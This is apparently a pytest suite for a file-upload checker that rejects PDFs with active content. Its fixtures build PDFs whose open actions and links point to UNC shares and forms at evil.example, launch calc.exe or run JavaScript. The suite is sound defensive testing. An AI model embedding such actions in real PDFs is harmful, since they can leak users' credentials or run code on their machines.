"""PDFs: what qpdf finds in them, whatever their encoding."""

import io
from pathlib import Path
from typing import Literal

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from files import inspection
from files.inspection import pdf_objects, pdfs
from tests.functional.files.world import World

PDF = {"contentType": "application/pdf", "name": "a.pdf"}


def document(**root: object) -> pikepdf.Pdf:
    """Return a document of one page, with these entries of its catalog."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(72, 72))
    for name, value in root.items():
        pdf.Root[f"/{name}"] = value
    return pdf


def written(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def go_to(target: str, kind: str = "/GoToR") -> Dictionary:
    return Dictionary(S=Name(kind), F=String(target), D=Array([0, Name.Fit]))


def link(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)


URI = Dictionary(S=Name.URI, URI=String("https://x.example"))
OPENING = {
    "another document in a share": go_to(r"\\evil.example\share\a.pdf"),
    "another document in a share, in slashes": go_to("//evil.example/share/a.pdf"),
    "another document by its address": go_to("https://evil.example/a.pdf"),
    "another document beside it": go_to("b.pdf"),
    "an address": URI,
    "an address, after a page": Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=URI),
    "a program": Dictionary(S=Name.Launch, F=String("calc.exe")),
    "a script": Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")),
}
CLICKED = {
    "a share": go_to(r"\\evil.example\share\a.pdf"),
    "a drive": go_to("c:/a.pdf"),
    "a share, as an address": Dictionary(S=Name.URI, URI=String("FILE://evil.example/share")),
    "a script, as an address": Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
    "an embedded document": go_to("a.pdf", "/GoToE"),
    "a form that is sent": Dictionary(S=Name.SubmitForm, F=String("https://evil.example")),
}


@pytest.mark.parametrize("what", OPENING)
def test_what_would_happen_when_a_pdf_is_opened_is_active(world: World, what: str) -> None:
    content = written(document(OpenAction=OPENING[what]))
    assert world.file(world.upload(content, **PDF))["reason"] == "active_content"


@pytest.mark.parametrize("mode", list(pikepdf.ObjectStreamMode.__members__.values()))
@pytest.mark.parametrize("what", CLICKED)
def test_a_link_must_not_lead_to_a_server_of_files(
    tmp_path: Path, what: str, mode: pikepdf.ObjectStreamMode
) -> None:
    pdf = document()
    pdf.pages[0].Annots = Array([pdf.make_indirect(link(CLICKED[what]))])
    upload = tmp_path / "upload"
    upload.write_bytes(written(pdf, object_stream_mode=mode))
    with pytest.raises(inspection.Rejected, match="active_content"):
        pdfs.check(upload)


def test_what_people_click_and_where_a_document_opens_is_harmless(tmp_path: Path) -> None:
    pdf = document(OpenAction=Array([0, Name.Fit]))
    pdf.pages[0].Annots = Array([link(URI), link(go_to("chapter-2.pdf"))])
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.NextPage))
    upload = tmp_path / "upload"
    content = written(pdf)
    upload.write_bytes(content)
    pdfs.check(upload)
    assert upload.read_bytes() == content  # stored as it is, so that a signature stays valid


def test_what_a_page_does_when_it_is_shown_is_active(tmp_path: Path) -> None:
    pdf = document()
    pdf.pages[0].AA = Dictionary(O=URI)
    upload = tmp_path / "upload"
    upload.write_bytes(written(pdf))
    with pytest.raises(inspection.Rejected, match="active_content"):
        pdfs.check(upload)


@pytest.mark.parametrize("revision", [3, 4, 6])
def test_a_pdf_with_an_owner_password_only_is_read_and_checked(
    tmp_path: Path, revision: Literal[3, 4, 6]
) -> None:
    upload = tmp_path / "upload"
    locks = {
        password: pikepdf.Encryption(
            owner="secret", user=password, R=revision, aes=revision > 3, metadata=revision > 3
        )
        for password in ("", "needed")
    }
    upload.write_bytes(written(document(), encryption=locks[""]))
    pdfs.check(upload)
    hidden = document(OpenAction=go_to(r"\\evil.example\a"))
    for content, reason in (
        (written(hidden, encryption=locks[""]), "active_content"),
        (written(document(), encryption=locks["needed"]), "encrypted"),
    ):
        upload.write_bytes(content)
        with pytest.raises(inspection.Rejected, match=reason):
            pdfs.check(upload)


def test_a_pdf_whose_objects_had_to_be_searched_is_stored_repaired(tmp_path: Path) -> None:
    """Another reader might find others where the table of objects is wrong."""
    content = written(document(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    start = content.rindex(b"startxref\n") + 10
    upload = tmp_path / "upload"
    upload.write_bytes(content[:start] + b"7\n%%EOF\n")
    pdfs.check(upload)
    with pikepdf.open(upload) as repaired:
        assert repaired.get_warnings() == []
        assert len(repaired.pages) == 1


def test_a_pdf_of_too_many_values_is_too_complex(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    upload = tmp_path / "upload"
    upload.write_bytes(written(document(Many=Array(range(200)))))
    pdfs.check(upload)
    monkeypatch.setattr(pdf_objects, "MAX_VALUES", 200)
    with pytest.raises(inspection.Rejected, match="too_complex"):
        pdfs.check(upload)
